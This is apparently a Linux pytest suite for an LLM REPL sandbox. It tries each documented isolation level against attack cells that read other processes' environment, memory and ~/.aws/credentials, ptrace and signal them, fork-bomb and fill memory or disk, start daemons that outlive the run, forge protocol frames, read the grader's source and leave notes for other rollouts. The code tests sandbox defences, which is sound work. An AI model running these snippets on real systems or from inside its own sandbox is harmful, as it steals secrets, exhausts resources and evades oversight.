"""What the code of a REPL can reach at each level of isolation. Every line of the table in docs/repl.md is an attack. It
succeeds where the table says "open", and nowhere else."""

from __future__ import annotations

import asyncio
import re
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from rlm.context import Context
from rlm.environments import REPL, CellResult, Query, QueryReply, REPLSettings, SessionSpec
from rlm.environments.isolation import Isolation
from rlm.environments.local import LocalEnvironment

from .conftest import LEVELS, find
from .grounds import Grounds

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the attacks are made for Linux")

DOCUMENT = Path(__file__).parents[3] / "docs" / "repl.md"

SCRATCH = 16 << 20
PROCESSES = 64
MEMORY = 400 << 20


@dataclass
class Target:
    """What an attack is tried on: two REPLs, and the secrets outside."""

    grounds: Grounds
    repl: REPL
    other: REPL
    """The REPL of another rollout."""
    names: dict[str, Any]

    async def run(self, code: str) -> CellResult:
        """Runs a cell with the names of the secrets and of their places."""
        told = "\n".join(f"{name} = {value!r}" for name, value in self.names.items())
        return await self.repl.execute(f"{told}\n{code}")

    async def prints(self, code: str, text: str) -> bool:
        """Whether a cell prints a text."""
        result = await self.run(code)
        return text in result.stdout

    async def arrives(self, code: str) -> bool:
        """Whether a server receives what a cell sends. The cell prints "sent" if it could send it."""
        self.grounds.arrived.clear()
        result = await self.run(code)
        if "sent" in result.stdout:
            await asyncio.to_thread(self.grounds.arrived.wait, 10)
        return self.names["TOKEN"].encode() in self.grounds.received


READ_VARIABLES = """
import os
for pid in {str(VICTIM), *filter(str.isdigit, os.listdir("/proc"))}:
    try:
        found = open(f"/proc/{pid}/environ", "rb").read().partition(b"RLM_TEST_KEY=")[2]
        if found:
            print(found[:32])
    except OSError:
        pass
"""

READ_FILES = """
import os
roots = [f"/proc/{pid}/root" for pid in {str(VICTIM), str(HOST), "1", "self"}]
for path in (KEY, *(root + KEY for root in roots), "/tmp/repl/../.." + KEY, SHARED + "/../home/.aws/credentials"):
    try:
        print(open(path).read())
    except OSError:
        pass
"""

READ_SCRATCH = """
import glob, os
tries = [FOREIGN, *glob.glob("/proc/[0-9]*/root" + FOREIGN), *glob.glob("/proc/[0-9]*/cwd/foreign.txt")]
tries += glob.glob(os.path.dirname(os.getcwd()) + "/*/foreign.txt")
for path in tries:
    try:
        print(open(path).read())
    except OSError:
        pass
"""

MEMORY_TOOLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def transfer(pid, call, mine):
    here, there = Piece(ctypes.addressof(mine), 32), Piece(ADDRESS, 32)
    return call(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
"""

READ_MEMORY = """
mine = ctypes.create_string_buffer(32)
if transfer(VICTIM, libc.process_vm_readv, mine) == 32:
    print(mine.raw)
for pid in {str(VICTIM), *filter(str.isdigit, os.listdir("/proc"))} - {str(os.getpid())}:
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            memory.seek(ADDRESS)
            print(memory.read(32))
    except OSError:
        pass
"""

WRITE_MEMORY = """
mine = ctypes.create_string_buffer(TOKEN.encode() * 2, 32)
transfer(VICTIM, libc.process_vm_writev, mine)
try:
    with open(f"/proc/{VICTIM}/mem", "r+b", 0) as memory:
        memory.seek(ADDRESS)
        memory.write(mine.raw)
except OSError:
    pass
"""

TRACE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
SEIZE = 0x4206
if libc.ptrace(SEIZE, VICTIM, None, None) == 0:
    print("traced")
    import os
    os._exit(0)  # the end of the tracer releases the victim
"""

SIGNAL = """
import os, signal
try:
    os.kill(VICTIM, signal.SIGUSR1)
except OSError as error:
    print(error)
try:
    signal.pidfd_send_signal(os.pidfd_open(VICTIM), signal.SIGUSR1)
except OSError as error:
    print(error)
"""

WRITE_FILES = """
import os
for path in (SHARED + "/new", PRIVATE + "/new", "/proc/self/root" + SHARED + "/new"):
    try:
        open(path, "w").write("x")
    except OSError:
        pass
for action in (
    lambda: os.rename(NOTE, SHARED + "/new"), lambda: os.link(NOTE, SHARED + "/new"),
    lambda: os.symlink("x", SHARED + "/new"), lambda: os.mkdir(SHARED + "/new"), lambda: os.mkfifo(SHARED + "/new"),
):
    try:
        action()
    except OSError:
        pass
"""

CHANGE_FILES = """
import os
for action in (
    lambda: os.chmod(NOTE, 0o666), lambda: os.utime(NOTE, (1, 1)), lambda: os.chown(NOTE, 12345, 12345),
    lambda: os.setxattr(NOTE, "user.x", b"y"), lambda: os.truncate(NOTE, 0),
):
    try:
        action()
    except OSError:
        pass
"""

STREAM = """
import socket
try:
    with socket.socket(FAMILY, socket.SOCK_STREAM) as link:
        link.connect(PLACE)
        link.sendall(TOKEN.encode())
        print("sent")
except OSError as error:
    print(error)
"""

PACKET = """
import socket
def tries():
    yield lambda: socket.socket(FAMILY, socket.SOCK_DGRAM)
    yield lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
    yield lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)[0]
for make in tries():
    try:
        make().sendto(TOKEN.encode(), PLACE)
        print("sent")
    except OSError as error:
        print(error)
"""

FORK_BOMB = """
import os, signal, threading, time
started = []
try:
    while len(started) < 450:
        pid = os.fork()
        if pid == 0:
            time.sleep(1000)
            os._exit(0)
        started.append(pid)
except OSError as error:
    print(error)
for pid in started:
    os.kill(pid, signal.SIGKILL)
for pid in started:
    os.waitpid(pid, 0)
print("at once" if len(started) == 450 else f"{len(started)} of them")
"""

MEMORY_BOMB = """
held = []
try:
    while len(held) < 600:
        held.append(bytearray(1 << 20))
except MemoryError:
    print(len(held), "MB")
else:
    print("all of it")
del held
"""

MEMORY_OF_MANY = """
import os
read, write = os.pipe()
gate = os.pipe()
for _ in range(3):
    if os.fork() == 0:
        held = bytearray(240 << 20)
        os.write(write, b"x")
        os.close(gate[1])
        os.read(gate[0], 1)
        os._exit(0)
count = 0
while count < 3:
    count += len(os.read(read, 3))
import select
select.select([], [], [], 20)  # memory that is held only briefly is no success
print("all of it")
os.close(gate[1])
"""

DISK_BOMB = """
written = 0
try:
    for number in range(10):
        with open(f"big{number}", "wb") as file:
            written += file.write(bytes(4 << 20))
except OSError as error:
    print(error)
print(written >> 20, "MB" if written < 40 << 20 else "MB: all of it")
"""

DAEMON = """
import os, time
read, write = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.setsid()
        os.write(write, str(os.getpid()).encode())
        time.sleep(1000)
    os._exit(0)
daemon = int(os.read(read, 20))
"""

FLOOD = """
import os
for _ in range(200):
    print("x" * 100_000)
    os.write(1, b"y" * 100_000)
"""

FORGE = """
import json, os, string, struct
FRAMES = [
    {"id": number, "status": "ok", "error": None, "value": "", "traceback": "", "answer": ["forged", True, None],
     "locals": {}, "printed": ["forged", ""], "replies": [["forged", False]], "manner": "forged"}
    for number in range(1, 20)
]
link = max(int(fd) for fd in os.listdir("/proc/self/fd"))
for fd in {int(fd) for fd in os.listdir("/proc/self/fd")} | set(range(3, 1024)):
    for kind in string.ascii_letters.encode():
        for frame in FRAMES:
            payload = json.dumps(frame).encode()
            try:
                os.set_blocking(fd, False)
                os.write(fd, struct.pack(">BI", kind, len(payload)) + payload)
            except OSError:
                break
"""

GRADER = """
import glob, os, sys
for path in sys.path:
    for name in ("verifiers/__init__.py", "verifiers/v1/__init__.py"):
        try:
            source = open(os.path.join(path, name)).read()
        except OSError:
            continue
        print("the source:", "import" in source and "hidden" not in source)
"""

NAMESPACES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    os._exit(0 if libc.unshare(0x10000000) == 0 or libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else 1)
print("made" if os.waitpid(pid, 0)[1] == 0 else "refused")
"""

KERNEL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {
        "add_key": 248, "keyctl": 250, "io_uring_setup": 425, "userfaultfd": 323, "bpf": 321, "perf_event_open": 298,
        "inotify_init1": 294, "io_setup": 206,
    },
    "aarch64": {
        "add_key": 217, "keyctl": 219, "io_uring_setup": 425, "userfaultfd": 282, "bpf": 280, "perf_event_open": 241,
        "inotify_init1": 26, "io_setup": 0,
    },
}[os.uname().machine]
for name, number in NUMBERS.items():
    ctypes.set_errno(0)
    libc.syscall(number, ctypes.c_long(-1), None, ctypes.c_long(-1), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
    if ctypes.get_errno() not in (1, 38):
        print("reached", name)
"""

LEAVE_NOTES = """
import ctypes, os, tempfile
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd() + "/..", SHARED):
    try:
        open(f"{folder}/rlm-note-{TOKEN}", "w").write("hint")
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.shmget(int(TOKEN[:7], 16), 4096, 0o1666)
"""

FIND_NOTES = """
import ctypes, os
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd() + "/..", SHARED):
    path = f"{folder}/rlm-note-{TOKEN}"
    if os.path.exists(path):
        print("found", path)
        os.unlink(path)
libc = ctypes.CDLL(None)
segment = libc.shmget(int(TOKEN[:7], 16), 4096, 0o666)
if segment >= 0:
    print("found shared memory")
    libc.shmctl(segment, 0, None)
"""


async def reads_scratch(target: Target) -> bool:
    wrote = await target.other.execute(
        f"import os; open('foreign.txt', 'w').write({target.grounds.secret!r}); print(os.getcwd() + '/foreign.txt')"
    )
    target.names["FOREIGN"] = wrote.stdout.strip()
    return await target.prints(READ_SCRATCH, target.grounds.secret)


async def writes_memory(target: Target) -> bool:
    await target.run(MEMORY_TOOLS + WRITE_MEMORY)
    held = (await asyncio.to_thread(target.grounds.ask_victim))[1]
    if held != target.grounds.secret:  # restore it for the next attack
        target.names["TOKEN"] = target.grounds.secret[:16]
        target.names["REST"] = target.grounds.secret[16:]
        await target.run(MEMORY_TOOLS + WRITE_MEMORY.replace("TOKEN.encode() * 2", "(TOKEN + REST).encode()"))
        return True
    return False


async def signals(target: Target) -> bool:
    await target.run(SIGNAL)
    return (await asyncio.to_thread(target.grounds.ask_victim))[0]


async def writes_files(target: Target) -> bool:
    await target.run(WRITE_FILES)
    new = [target.grounds.shared / "new", target.grounds.private / "new"]
    done = any(path.exists() or path.is_symlink() for path in new) or not target.grounds.note.exists()
    for path in new:
        path.unlink(missing_ok=True)
    target.grounds.note.write_text("a note")
    return done


async def changes_files(target: Target) -> bool:
    note = target.grounds.note
    before = note.stat()
    await target.run(CHANGE_FILES)
    after = note.stat()
    note.unlink()
    note.write_text("a note")
    return (before.st_mode, before.st_mtime, before.st_uid, before.st_size) != (
        after.st_mode,
        after.st_mtime,
        after.st_uid,
        after.st_size,
    )


def sends(code: str, family: str, place: str) -> Callable[[Target], Awaitable[bool]]:
    return lambda target: target.arrives(f"import socket\nFAMILY, PLACE = socket.{family}, {place}\n{code}")


async def outlives(target: Target) -> bool:
    await target.run(DAEMON)
    (daemon,) = await find(target.repl, "daemon")
    await target.repl.close()
    return daemon.is_running()


async def floods(target: Target) -> bool:
    result = await target.run(FLOOD)
    return len(result.stdout) + len(result.stderr) > 50_000


async def forges(target: Target) -> bool:
    """Whether a forged frame has an effect on this REPL or on another one."""
    waiting = asyncio.create_task(target.other.execute("llm_query('wait')"))
    await target.run(FORGE)
    await target.repl.execute("llm_query('let go')")
    if (await waiting).stdout != "'true reply'\n":
        return True
    after = await target.repl.execute("llm_query('x')")
    if after.status == "died":
        after = await target.repl.execute("llm_query('x')")
    return after.stdout != "'true reply'\n"


async def leaves_notes(target: Target) -> bool:
    await target.run(LEAVE_NOTES)
    told = f"SHARED, TOKEN = {str(target.grounds.shared)!r}, {target.names['TOKEN']!r}\n"
    return "found" in (await target.other.execute(told + FIND_NOTES)).stdout


def printing(code: str, text: str | None = None) -> Callable[[Target], Awaitable[bool]]:
    return lambda target: target.prints(code, text or target.grounds.secret)


ATTACKS: dict[str, Callable[[Target], Awaitable[bool]]] = {
    "read environment variables of other processes": printing(READ_VARIABLES),
    "read keys and other files of the user": printing(READ_FILES),
    "read what other rollouts wrote": reads_scratch,
    "read the memory of other processes": printing(MEMORY_TOOLS + READ_MEMORY),
    "write to the memory of other processes": writes_memory,
    "trace other processes": printing(TRACE, "traced"),
    "send signals to other processes": signals,
    "write files": writes_files,
    "change modes, owners and times of files": changes_files,
    "connect over TCP": sends(STREAM, "AF_INET", '("127.0.0.1", TCP)'),
    "send UDP packets": sends(PACKET, "AF_INET", '("127.0.0.1", UDP)'),
    "connect to Unix sockets": sends(STREAM, "AF_UNIX", 'SHARED + "/stream"'),
    "send packets to Unix sockets": sends(PACKET, "AF_UNIX", 'SHARED + "/packets"'),
    "connect to abstract Unix sockets": sends(STREAM, "AF_UNIX", '"\\0rlm-" + ABSTRACT'),
    "import or read what scores it": printing(GRADER, "the source: True"),
    "leave notes for other rollouts": leaves_notes,
    "make namespaces and mounts": printing(NAMESPACES, "made"),
    "reach rarely used parts of the kernel": printing(KERNEL, "reached"),
    "start processes without end": printing(FORK_BOMB, "at once"),
    "fill the disk": printing(DISK_BOMB, "all of it"),
    "take all memory in one process": printing(MEMORY_BOMB, "all of it"),
    "take all memory in many processes": printing(MEMORY_OF_MANY, "all of it"),
    "outlive the run": outlives,
    "print without end": floods,
    "forge frames of the protocol": forges,
}


def table() -> dict[str, dict[str, str]]:
    """The table of the document: for each attack "open" or "closed", by level."""
    lines = re.findall(r"(?m)^\| (.*?) +\|$", DOCUMENT.read_text().split("## Isolation")[1].split("\n## ")[0])
    head, *rows = (re.split(r" +\| ", line) for line in lines)
    return {row[0]: dict(zip(head[1:], row[1:], strict=True)) for row in rows}


@pytest.fixture(scope="module")
def grounds(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Grounds]:
    with Grounds(tmp_path_factory.mktemp("grounds")) as grounds:
        yield grounds


@pytest.fixture(params=LEVELS)
def isolation(request: pytest.FixtureRequest) -> Isolation:
    level: Isolation = request.param
    return level


@pytest.fixture
async def target(isolation: Isolation, grounds: Grounds) -> AsyncIterator[Target]:
    settings: dict[str, Any] = {}
    if isolation != "process":
        settings = {"readable": [grounds.shared], "scratch_bytes": SCRATCH, "processes": PROCESSES}
    environment = LocalEnvironment(isolation=isolation, **settings)
    gate = asyncio.Event()

    async def answer(query: Query) -> list[QueryReply]:
        if query.prompts == ["wait"]:
            await gate.wait()
        elif query.prompts == ["let go"]:
            gate.set()
        return [QueryReply("true reply") for _ in query.prompts]

    spec = SessionSpec(
        contexts=[Context("the context")], settings=REPLSettings(limits={"memory_bytes": MEMORY})
    )
    repls = [await environment.open(spec, answer) for _ in range(2)]
    yield Target(grounds, repls[0], repls[1], grounds.names())
    gate.set()
    for repl in repls:
        await repl.close()


@pytest.mark.parametrize("attack", ATTACKS)
async def test_an_attack_succeeds_only_where_the_document_says_open(
    target: Target, isolation: Isolation, attack: str
) -> None:
    succeeded = await ATTACKS[attack](target)
    said = table()[attack][f'`"{isolation.rstrip("!")}"`']
    assert said in ("open", "closed")
    assert ("open" if succeeded else "closed") == said
    if said == "closed" and attack != "outlive the run":
        result = await target.repl.execute("context")
        if result.status == "died":
            result = await target.repl.execute("context")
        assert result.stdout == "'the context'\n"


def test_every_line_of_the_document_is_an_attack() -> None:
    assert list(table()) == list(ATTACKS)
